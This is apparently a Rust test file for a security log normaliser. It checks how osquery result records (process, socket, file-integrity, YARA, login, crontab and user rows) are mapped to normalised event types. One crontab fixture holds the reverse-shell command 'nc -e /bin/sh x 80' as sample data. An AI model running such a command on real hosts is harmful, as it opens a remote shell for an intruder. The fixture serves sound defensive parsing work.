//! Results of osquery.

use expect_test::{Expect, expect};

use crate::sources::testing::{check_odd_values, shown};
use crate::{Source, detect};

fn source() -> Source {
    Source::named("osquery").expect("a source that Coldtrail brings")
}

/// The records are told to be of this source, and become this.
fn check(input: &str, expected: Expect) {
    assert_eq!(detect(input.as_bytes(), ""), Some(source()));
    expected.assert_eq(&shown(source(), input.as_bytes()));
}

#[test]
fn rows_of_events_have_their_own_time() {
    check(
        r#"{"name":"pack_hids_process_events","hostIdentifier":"web1","calendarTime":"Sun Mar  1 12:00:30 2026 UTC","unixTime":1772366430,"epoch":0,"counter":0,"decorations":{"host_uuid":"u-1"},"columns":{"pid":"42","path":"/usr/bin/curl","cmdline":"curl x.example","cwd":"/tmp","auid":"1000","uid":"0","parent":"41","time":"1772366400","eid":"9"},"action":"added"}
{"name":"es","hostIdentifier":"mac1","unixTime":1772366430,"columns":{"event_type":"exit","pid":"42","path":"/bin/ls","username":"mara","parent":"1","time":"1772366401"},"action":"added"}
{"name":"es_process_events","hostIdentifier":"mac1","unixTime":1772366430,"columns":{"event_type":"exit","pid":"42","path":"/bin/ls","username":"mara","parent":"1","time":"1772366401"},"action":"added"}"#,
        expect![[r#"
            process_activity: Launch at 2026-03-01T12:00:00.000Z
              status = Success
              actor_user_uid = 0
              actor_user_uid_alt = 1000
              process_name = curl
              process_pid = 42
              process_cmd_line = curl x.example
              process_file_path = /usr/bin/curl
              process_file_name = curl
              process_working_directory = /tmp
              process_user_uid = 0
              process_parent_process_pid = 41
              actor_process_pid = 41
              metadata_event_code = pack_hids_process_events
              metadata_log_name = result
              metadata_uid = 9
              metadata_logged_time = 1772366430000
              device_hostname = web1
              device_uid = u-1
              unmapped = {"calendarTime":"Sun Mar  1 12:00:30 2026 UTC","epoch":0,"counter":0,"action":"added"}
            event_log_activity: es at 2026-03-01T12:00:30.000Z
              status = Unknown
              actor_process_name = ls
              actor_process_pid = 42
              actor_process_file_path = /bin/ls
              actor_process_file_name = ls
              actor_user_name = mara
              log_name = result
              metadata_event_code = es
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = mac1
              unmapped = {"columns":{"event_type":"exit","parent":"1","time":"1772366401"},"action":"added"}
            process_activity: Terminate at 2026-03-01T12:00:01.000Z
              status = Success
              actor_user_name = mara
              process_name = ls
              process_pid = 42
              process_file_path = /bin/ls
              process_file_name = ls
              process_user_name = mara
              process_parent_process_pid = 1
              actor_process_pid = 1
              metadata_event_code = es_process_events
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = mac1
              unmapped = {"action":"added"}
        "#]],
    );
}

#[test]
fn where_a_connection_came_from_depends_on_the_call() {
    check(
        r#"{"name":"socket_events","hostIdentifier":"web1","unixTime":"1772366430","columns":{"action":"connect","pid":"42","path":"/usr/bin/nc","auid":"4294967295","status":"failed","family":"2","protocol":"6","local_address":"10.0.0.1","local_port":"40000","remote_address":"203.0.113.9","remote_port":"443","time":"1772366400"},"action":"added"}
{"name":"connections","hostIdentifier":"web1","unixTime":"1772366430","columns":{"action":"accept","pid":"7","path":"/usr/sbin/sshd","local_address":"10.0.0.1","local_port":"22","remote_address":"203.0.113.9","remote_port":"50000"},"action":"added"}
{"name":"pack_incident-response_listening_ports","hostIdentifier":"web1","unixTime":"1772366430","counter":"3","columns":{"pid":"7","port":"22","protocol":"6","family":"10","address":"::"},"action":"removed"}"#,
        expect![[r#"
            network_activity: Open at 2026-03-01T12:00:00.000Z
              status = Failure
              actor_process_name = nc
              actor_process_pid = 42
              actor_process_file_path = /usr/bin/nc
              actor_process_file_name = nc
              src_endpoint_ip = 10.0.0.1
              src_endpoint_port = 40000
              src_endpoint_hostname = web1
              dst_endpoint_ip = 203.0.113.9
              dst_endpoint_port = 443
              connection_info_protocol_num = 6
              connection_info_protocol_name = tcp
              connection_info_protocol_ver_id = 4
              connection_info_direction_id = 2
              connection_info_direction = Outbound
              metadata_event_code = socket_events
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"columns":{"auid":"4294967295"},"action":"added"}
            network_activity: Open at 2026-03-01T12:00:30.000Z
              status = Success
              actor_process_name = sshd
              actor_process_pid = 7
              actor_process_file_path = /usr/sbin/sshd
              actor_process_file_name = sshd
              src_endpoint_ip = 203.0.113.9
              src_endpoint_port = 50000
              dst_endpoint_ip = 10.0.0.1
              dst_endpoint_port = 22
              dst_endpoint_hostname = web1
              connection_info_direction_id = 1
              connection_info_direction = Inbound
              metadata_event_code = connections
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"action":"added"}
            network_activity: Close at 2026-03-01T12:00:30.000Z
              status = Success
              actor_process_pid = 7
              src_endpoint_ip = ::
              src_endpoint_port = 22
              src_endpoint_hostname = web1
              connection_info_protocol_num = 6
              connection_info_protocol_name = tcp
              connection_info_protocol_ver_id = 6
              connection_info_direction_id = 1
              connection_info_direction = Inbound
              metadata_event_code = pack_incident-response_listening_ports
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"counter":"3","action":"removed"}
        "#]],
    );
}

#[test]
fn what_happened_to_a_file_is_in_its_action() {
    check(
        r#"{"name":"fim","hostIdentifier":"web1","unixTime":1772366430,"columns":{"target_path":"/etc/passwd","category":"etc","action":"UPDATED","transaction_id":"7","inode":"5","size":"100","md5":"aa","sha1":"bb","sha256":"cc","mtime":"1772366399","time":"1772366400"},"action":"added"}
{"name":"process_file_events","hostIdentifier":"web1","unixTime":1772366430,"columns":{"operation":"rename","pid":"42","executable":"/bin/mv","path":"/tmp/a","dest_path":"/tmp/b","uid":"0","time":"1772366400"},"action":"added"}
{"name":"yara","hostIdentifier":"web1","unixTime":1772366430,"columns":{"path":"/tmp/x","matches":"eicar","count":"1"},"action":"added"}"#,
        expect![[r#"
            file_activity: Update at 2026-03-01T12:00:00.000Z
              status = Success
              file_path = /etc/passwd
              file_name = passwd
              file_size = 100
              file_hashes_sha256_value = cc
              file_hashes_sha1_value = bb
              file_hashes_md5_value = aa
              file_modified_time = 1772366399000
              file_uid = 5
              policy_name = etc
              metadata_event_code = fim
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"columns":{"transaction_id":"7"},"action":"added"}
            file_activity: Rename at 2026-03-01T12:00:00.000Z
              status = Success
              file_path = /tmp/a
              actor_user_uid = 0
              file_name = a
              file_result_path = /tmp/b
              actor_process_pid = 42
              actor_process_file_path = /bin/mv
              actor_process_name = mv
              metadata_event_code = process_file_events
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"action":"added"}
            detection_finding: Create at 2026-03-01T12:00:30.000Z
              severity = Medium
              status = New
              finding_info_uid = /tmp/x
              finding_info_title = yara: eicar
              finding_info_types = YARA
              finding_info_analytic_name = eicar
              is_alert = true
              evidences_file_path = /tmp/x
              evidences_file_name = x
              metadata_event_code = yara
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"columns":{"count":"1"},"action":"added"}
        "#]],
    );
}

#[test]
fn users_sign_in_and_accounts_and_jobs_come_and_go() {
    check(
        r#"{"name":"pack_it_logged_in_users","hostIdentifier":"web1","unixTime":1772366430,"counter":2,"columns":{"type":"user","user":"mara","tty":"pts/0","host":"203.0.113.9","time":"1772366400","pid":"7"},"action":"added"}
{"name":"pack_it_logged_in_users","hostIdentifier":"web1","unixTime":1772366490,"counter":3,"columns":{"type":"user","user":"mara","tty":"pts/0","host":"desk.example","time":"1772366400","pid":"7"},"action":"removed"}
{"name":"user_events","hostIdentifier":"web1","unixTime":1772366430,"columns":{"uid":"0","auid":"1000","pid":"7","type":"1112","message":"op=login acct=\"eve\" res=failed","path":"/usr/sbin/sshd","address":"203.0.113.9","terminal":"ssh","time":"1772366402"},"action":"added"}
{"name":"pack_x_crontab","hostIdentifier":"web1","unixTime":1772366430,"counter":1,"columns":{"command":"nc -e /bin/sh x 80","path":"/etc/crontab","minute":"17"},"action":"added"}
{"name":"users","hostIdentifier":"web1","unixTime":1772366430,"counter":0,"columns":{"uid":"1001","username":"eve"},"action":"added"}
{"name":"users","hostIdentifier":"web1","unixTime":1772366430,"counter":4,"columns":{"uid":"1001","username":"eve"},"action":"added"}"#,
        expect![[r#"
            authentication: Logon at 2026-03-01T12:00:00.000Z
              status = Success
              actor_process_pid = 7
              user_name = mara
              actor_session_terminal = pts/0
              src_endpoint_ip = 203.0.113.9
              src_endpoint_name = 203.0.113.9
              dst_endpoint_hostname = web1
              logon_process_pid = 7
              is_remote = true
              metadata_event_code = pack_it_logged_in_users
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"counter":2,"columns":{"type":"user"},"action":"added"}
            authentication: Logoff at 2026-03-01T12:01:30.000Z
              status = Success
              actor_process_pid = 7
              user_name = mara
              actor_session_terminal = pts/0
              src_endpoint_name = desk.example
              dst_endpoint_hostname = web1
              logon_process_pid = 7
              is_remote = true
              metadata_event_code = pack_it_logged_in_users
              metadata_log_name = result
              metadata_logged_time = 1772366490000
              device_hostname = web1
              unmapped = {"counter":3,"columns":{"type":"user","time":"1772366400"},"action":"removed"}
            authentication: Logon at 2026-03-01T12:00:02.000Z
              status = Failure
              actor_process_name = sshd
              actor_process_pid = 7
              actor_process_file_path = /usr/sbin/sshd
              actor_process_file_name = sshd
              actor_user_uid = 0
              actor_user_uid_alt = 1000
              user_name = eve
              user_uid = 1000
              actor_session_terminal = ssh
              src_endpoint_ip = 203.0.113.9
              dst_endpoint_hostname = web1
              logon_process_name = sshd
              logon_process_pid = 7
              logon_process_file_path = /usr/sbin/sshd
              is_remote = true
              metadata_event_code = user_events
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"action":"added"}
            scheduled_job_activity: Create at 2026-03-01T12:00:30.000Z
              status = Success
              job_name = crontab
              job_cmd_line = nc -e /bin/sh x 80
              job_file_path = /etc/crontab
              metadata_event_code = pack_x_crontab
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"counter":1,"columns":{"minute":"17"},"action":"added"}
            account_change: account there at 2026-03-01T12:00:30.000Z
              status = Success
              user_name = eve
              user_uid = 1001
              metadata_event_code = users
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"counter":0,"action":"added"}
            account_change: Create at 2026-03-01T12:00:30.000Z
              status = Success
              user_name = eve
              user_uid = 1001
              metadata_event_code = users
              metadata_log_name = result
              metadata_logged_time = 1772366430000
              device_hostname = web1
              unmapped = {"counter":4,"action":"added"}
        "#]],
    );
}

#[test]
fn rows_of_batches_and_snapshots_are_events_and_other_queries_are_kept_whole() {
    check(
        r#"{"diffResults":{"added":[{"name":"osqueryd"}],"removed":""},"name":"processes","hostIdentifier":"web1","calendarTime":"Sun Mar  1 12:00:00 2026 UTC","unixTime":"1772366400"}
{"diffResults":{"added":[{"pid":"9","path":"/bin/x"}],"removed":[{"pid":"8","path":"/bin/y"}],"kept":1},"name":"processes","hostIdentifier":"web1","unixTime":"1772366400"}
{"snapshot":[{"parent":"0","path":"/sbin/launchd","pid":"1"},{"parent":"1","path":"/bin/zsh","pid":"2"}],"action":"snapshot","name":"process_snapshot","hostIdentifier":"web1","calendarTime":"Sun Mar  1 12:00:00 2026 UTC"}
{"snapshot":[],"action":"snapshot","name":"empty","hostIdentifier":"web1","unixTime":"1772366400"}
{"name":"processes","hostIdentifier":"web1","unixTime":"1772366400","columns":{"pid":"1","path":"/sbin/init"},"action":"snapshot"}
{"hostIdentifier":"web1","calendarTime":"Sun Mar  1 12:00:00 2026 UTC","unixTime":"1772366400","severity":"2","filename":"tls.cpp","line":"253","message":"TLS failed","version":"5.12.0","log_type":"status"}
{"name":"pack_x_os_version","columns":{"version":"1"},"action":"added","unixTime":"1772366400"}
{"name":"pack_x_os_version","columns":{"version":"1"},"action":"added"}"#,
        expect![[r#"
            process_activity: Launch at 2026-03-01T12:00:00.000Z
              status = Success
              process_name = osqueryd
              metadata_event_code = processes
              metadata_log_name = result
              metadata_logged_time = 1772366400000
              device_hostname = web1
              unmapped = {"action":"added","calendarTime":"Sun Mar  1 12:00:00 2026 UTC"}
            process_activity: Launch at 2026-03-01T12:00:00.000Z
              status = Success
              process_name = x
              process_pid = 9
              process_file_path = /bin/x
              process_file_name = x
              metadata_event_code = processes
              metadata_log_name = result
              metadata_logged_time = 1772366400000
              device_hostname = web1
              unmapped = {"action":"added","diffResults":{"kept":1}}
            process_activity: Terminate at 2026-03-01T12:00:00.000Z
              status = Success
              process_name = y
              process_pid = 8
              process_file_path = /bin/y
              process_file_name = y
              metadata_event_code = processes
              metadata_log_name = result
              metadata_logged_time = 1772366400000
              device_hostname = web1
              unmapped = {"action":"removed","diffResults":{"kept":1}}
            event_log_activity: process_snapshot at 2026-03-01T12:00:00.000Z
              status = Unknown
              actor_process_name = launchd
              actor_process_pid = 1
              actor_process_file_path = /sbin/launchd
              actor_process_file_name = launchd
              log_name = result
              metadata_event_code = process_snapshot
              metadata_log_name = result
              device_hostname = web1
              unmapped = {"columns":{"parent":"0"},"action":"snapshot"}
            event_log_activity: process_snapshot at 2026-03-01T12:00:00.000Z
              status = Unknown
              actor_process_name = zsh
              actor_process_pid = 2
              actor_process_file_path = /bin/zsh
              actor_process_file_name = zsh
              log_name = result
              metadata_event_code = process_snapshot
              metadata_log_name = result
              device_hostname = web1
              unmapped = {"columns":{"parent":"1"},"action":"snapshot"}
            event_log_activity: snapshot at 2026-03-01T12:00:00.000Z
              status = Unknown
              log_name = result
              metadata_event_code = empty
              metadata_log_name = snapshot
              metadata_logged_time = 1772366400000
              device_hostname = web1
              unmapped = {"action":"snapshot"}
            process_activity: process there at 2026-03-01T12:00:00.000Z
              status = Success
              process_name = init
              process_pid = 1
              process_file_path = /sbin/init
              process_file_name = init
              metadata_event_code = processes
              metadata_log_name = result
              metadata_logged_time = 1772366400000
              device_hostname = web1
              unmapped = {"action":"snapshot"}
            event_log_activity: status at 2026-03-01T12:00:00.000Z
              severity = Medium
              status = Unknown
              log_name = status
              message = TLS failed
              metadata_product_version = 5.12.0
              metadata_event_code = status
              metadata_log_name = status
              metadata_logged_time = 1772366400000
              device_hostname = web1
              unmapped = {"calendarTime":"Sun Mar  1 12:00:00 2026 UTC","filename":"tls.cpp","line":"253"}
            event_log_activity: pack_x_os_version at 2026-03-01T12:00:00.000Z
              status = Unknown
              log_name = result
              metadata_event_code = pack_x_os_version
              metadata_log_name = result
              metadata_logged_time = 1772366400000
              unmapped = {"columns":{"version":"1"},"action":"added"}
            reject: the field unixTime is missing
        "#]],
    );
}

#[test]
fn odd_values_never_lose_a_record() {
    check_odd_values(
        source(),
        r#"{"name":"socket_events","hostIdentifier":"web1","unixTime":"1772366430","columns":{"action":"connect","pid":"42","path":"/x","status":"failed","local_address":"10.0.0.1","remote_address":"203.0.113.9","remote_port":"443","time":"1772366400"},"action":"added"}"#,
    );
}
